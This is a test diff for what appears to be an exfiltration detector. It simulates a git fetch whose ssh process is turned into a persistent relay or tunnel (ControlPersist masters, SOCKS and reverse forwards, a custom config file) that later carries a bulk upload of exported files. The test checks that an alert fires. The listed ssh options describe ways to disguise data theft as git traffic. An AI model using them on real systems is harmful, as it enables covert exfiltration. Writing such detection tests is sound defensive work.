@@ -83,4 +83,30 @@ describe("a download's ssh command run through a shell", () => {
     }
     expect(brief((await runResolved(s.events)).alerts).length).toBe(1);
   });
+
+  // Found by review: the master a fetch's ssh opens (`ControlPersist`) or a forward it keeps carries other
+  // processes' traffic later, as its own egress; so does one a config file (`-F`) asks for.
+  it.each([
+    '-o ControlMaster=yes -o ControlPersist=600 -o ControlPath=/tmp/c',
+    '-o "ControlMaster auto" -oControlPersist=yes',
+    '-M -S /tmp/c',
+    '-fN -D 1080',
+    '-i /dev/shm/k -R 9000:localhost:22',
+    '-F /tmp/.cfg',
+  ])("a fetch's ssh made a relay (%s) is not the transport: what it carries later counts", async (options) => {
+    const { s, c, server } = repoServer();
+    for (let i = 0; i < 40; i++) s.read(server, `/srv/exports/part-${i}.csv`, 2 * 1024 * 1024);
+    const fetch = s.exec(c, '/usr/bin/git', 'fetch git@github.com:evil/x.git', { parent: server });
+    const sh = s.exec(c, '/bin/sh', `-c ssh ${options} "$@" ssh git@github.com git-upload-pack 'evil/x.git'`, {
+      parent: fetch,
+    });
+    const ssh = s.exec(c, '/usr/bin/ssh', `${options} git@github.com git-upload-pack 'evil/x.git'`, { parent: sh });
+    s.connect(ssh, GITHUB_IP, 22, { cookie: '9' });
+    s.exit(sh).exit(fetch);
+    s.wait(5_000)
+      .send(ssh, GITHUB_IP, 22, 80 * 1024 * 1024, { cookie: '9' })
+      .wait(2_000)
+      .exit(ssh);
+    expect(brief((await runResolved(s.events)).alerts).map((a) => a.rule)).toEqual(['bulk-read-then-push']);
+  });
 });
